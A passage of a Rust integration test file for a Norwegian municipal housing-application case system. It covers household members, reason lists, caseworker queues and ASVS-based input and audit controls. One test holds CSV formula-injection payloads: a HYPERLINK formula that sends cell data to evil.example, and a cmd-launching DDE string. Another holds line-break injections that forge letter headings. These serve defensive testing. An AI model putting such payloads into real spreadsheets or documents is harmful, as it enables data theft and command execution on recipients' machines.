        .post(
            &path,
            &[
                ("member_name_0", "Ny Person"),
                ("member_national_id_0", &spouse),
                ("member_relation_0", "spouse"),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    let page = c.get(&format!("/soknader/{id}")).await;
    assert!(page
        .text_of("section[aria-labelledby=husstand] tbody")
        .contains("Ny Person"));
    let form = page
        .attr("section[aria-labelledby=husstand] tbody form", "action")
        .unwrap();
    let v = version(&app, id).await;
    let removed = c.post(&form, &[("version", &v)]).await;
    assert_eq!(removed.status, StatusCode::SEE_OTHER);
    let timeline = c
        .get(&format!("/soknader/{id}"))
        .await
        .text_of(".bosak-app-timeline");
    assert!(
        timeline.contains("lagt til i husstanden") && timeline.contains("fjernet fra husstanden")
    );
}

#[tokio::test]
async fn admin_manages_the_reason_list() {
    let app = TestApp::spawn().await;
    let mut a = app.login("levanger.admin").await;
    let page = a.get("/innstillinger/soknadsgrunner").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("Rusproblemer"));
    let res = a
        .post(
            "/innstillinger/soknadsgrunner",
            &[("reason_name", "Brann i bolig")],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let dup = a
        .post(
            "/innstillinger/soknadsgrunner",
            &[("reason_name", "brann i bolig")],
        )
        .await;
    assert_eq!(dup.status, StatusCode::UNPROCESSABLE_ENTITY);
    let page = a.get("/innstillinger/soknadsgrunner").await;
    let action = page
        .html()
        .select(&scraper::Selector::parse("tbody tr").unwrap())
        .find(|tr| tr.text().collect::<String>().contains("Brann i bolig"))
        .and_then(|tr| {
            tr.select(&scraper::Selector::parse("form").unwrap())
                .next()
                .and_then(|f| f.value().attr("action").map(str::to_owned))
        })
        .unwrap();
    assert!(action.ends_with("/deaktiver"));
    assert_eq!(a.post(&action, &[]).await.status, StatusCode::SEE_OTHER);
    let mut c = app.login("levanger.saksbehandler").await;
    let form = c.get("/soknader/ny").await;
    assert!(
        !form.text.contains("Brann i bolig"),
        "deactivated reasons are not offered"
    );
    assert_eq!(
        c.get("/innstillinger/soknadsgrunner").await.status,
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn mine_lists_the_nearest_fifty_awaiting_cases_and_links_to_the_rest() {
    let app = TestApp::spawn().await;
    let m = app.municipality_id("5037").await;
    let me = app.user_id("levanger.saksbehandler").await;
    let mut tx = app.owner.begin().await.unwrap();
    bosak::seed::with_tenant(&mut tx, m).await.unwrap();
    // Every Levanger case becomes mine, undecided and without an interim reply.
    let n = sqlx::query(
        "UPDATE applications SET caseworker_id = $2, status = 'received', decided_on = NULL,
                interim_sent_on = NULL WHERE municipality_id = $1",
    )
    .bind(m)
    .bind(me)
    .execute(&mut *tx)
    .await
    .unwrap()
    .rows_affected();
    tx.commit().await.unwrap();
    assert!(n > 50, "demo data has {n} Levanger cases");
    let mut c = app.login("levanger.saksbehandler").await;
    let page = c.get("/soknader/mine").await;
    let html = page.html();
    let first_table = scraper::Selector::parse("table").unwrap();
    let rows = scraper::Selector::parse("tbody tr").unwrap();
    let awaiting = html
        .select(&first_table)
        .next()
        .unwrap()
        .select(&rows)
        .count();
    assert_eq!(awaiting, 50, "the nearest fifty, not all {n}");
    let link = page.attr("#all-awaiting", "href").unwrap();
    let all = c.get(&link).await;
    assert_eq!(all.status, reqwest::StatusCode::OK);
    assert!(all.count("tbody tr") >= 50);
}

// ASVS 5.0 V1.2.10 (protection against CSV and formula injection): a name typed as a
// formula reaches the CSV export as text, with a leading quote.
#[tokio::test]
async fn a_formula_in_a_name_is_defused_in_the_csv_export() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let evil = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Klikk\")";
    register(&mut c, evil, &fnr("121290", 8)).await;
    register(&mut c, "@SUM(1+1)*cmd|' /C calc'!A0", &fnr("121290", 9)).await;
    let res = c
        .http
        .get(format!("{}/soknader/eksport.csv", c.base))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let body = res.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(record.unwrap().iter().map(str::to_owned));
    }
    assert!(cells.contains(&format!("'{evil}")), "{body}");
    assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula in the export: {cell:?}"
        );
    }
}

// ASVS 5.0 V2.2.1 (input is validated to enforce functional expectations): the one input
// rule refuses NUL in urlencoded forms and in multipart text fields alike, with the
// Norwegian page, and nothing is stored.
#[tokio::test]
async fn nul_characters_are_refused_in_forms_and_multipart_fields() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    // Urlencoded: a registration with a NUL in the name.
    c.get("/soknader/ny").await;
    let fields = registration("Kari\u{0}Nordmann", &fnr("101080", 3));
    let res = post_pairs(&mut c, "/soknader/ny", &fields).await;
    assert_eq!(res.status, StatusCode::BAD_REQUEST, "{}", res.text);
    assert!(
        res.text_of("h1").contains("Ugyldig forespørsel"),
        "{}",
        res.text
    );
    assert_eq!(app.audit_count("application.registered").await, 0);

    // Multipart: a document title with a NUL.
    let id = register(&mut c, "Nul Søker", &fnr("101080", 4)).await;
    c.get(&format!("/soknader/{id}")).await;
    let csrf = c.csrf.clone().unwrap();
    let url = format!("{}/soknader/{id}/dokumenter", c.base);
    let pdf = b"%PDF-1.4\n%test\n%%EOF\n".to_vec();
    for form in [
        multipart(&csrf, "Lønn\u{0}slipp", "lønn.pdf", pdf.clone()),
        multipart(&csrf, "Lønnsslipp", "lønn\u{0}.pdf", pdf.clone()),
    ] {
        let res = c.http.post(&url).multipart(form).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST);
        assert!(res.text().await.unwrap().contains("Ugyldig forespørsel"));
    }
    let documents = scalar_i64(
        &app,
        "5037",
        "SELECT count(*) FROM application_documents WHERE application_id = $1",
        id,
    )
    .await;
    assert_eq!(documents, 0);
    // The same upload without the NUL is accepted.
    let res = c
        .http
        .post(&url)
        .multipart(multipart(&csrf, "Lønnsslipp", "lønn.pdf", pdf))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
}

/// ASVS 5.0 V1.3 (output in another context): single-line fields stay single-line where
/// they are stored and printed, so a line break in a name cannot become a heading or a
/// list item in an official letter. Refused next to the field with the input kept, and
/// by the database whatever path writes.
#[tokio::test]
async fn a_line_break_in_a_name_or_address_is_refused() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    c.get("/soknader/ny").await;
    let mut fields = registration("Kari Linje\n# Vedtak om innvilget bolig", &fnr("150385", 3));
    for (k, v) in fields.iter_mut() {
        if k == "applicant_street_address" {
            *v = "Storgata 1\r\n- Klagefrist: ingen".into();
        }
    }
    let res = post_pairs(&mut c, "/soknader/ny", &fields).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text_of("#applicant_name-err").contains("én linje"));
    assert!(res
        .text_of("#applicant_street_address-err")
        .contains("én linje"));
    assert!(
        res.attr("#applicant_name", "value")
            .unwrap_or_default()
            .contains("Kari Linje"),
        "input kept"
    );
    let m = app.municipality_id("5037").await;
    let mut tx = app.owner.begin().await.unwrap();
    bosak::seed::with_tenant(&mut tx, m).await.unwrap();
    let direct = sqlx::query(
        "INSERT INTO people (municipality_id, id, name, birth_date) VALUES ($1, gen_random_uuid(), E'A\\n# B', '1980-01-01')",
    )
    .bind(m)
    .execute(&mut *tx)
    .await;
    assert!(direct.is_err(), "the database keeps names on one line");
}

/// ASVS 5.0 V16.2.1 (security issue, defect 8): a search by name and a CSV export read
/// people; the audit log records which cases were read.
#[tokio::test]
async fn name_search_and_export_record_who_was_read() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Søkbar Person", &fnr("010190", 6)).await;
    let page = c.get("/soknader?q=S%C3%B8kbar").await;
    assert!(page.text_of("tbody").contains("Søkbar Person"));
    c.get("/soknader/eksport.csv?q=S%C3%B8kbar").await;
    for action in ["application.searched_by_name", "application.list_exported"] {
        let details: serde_json::Value = sqlx::query_scalar(
            "SELECT details FROM audit_events WHERE action = $1 ORDER BY at DESC LIMIT 1",
        )
        .bind(action)
        .fetch_one(&app.owner)
        .await
        .unwrap_or_else(|e| panic!("{action}: {e}"));
        let ids = details["applications"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert!(
            ids.iter().any(|v| v.as_str() == Some(&id.to_string())),
            "{action}: {details}"
        );
    }
}
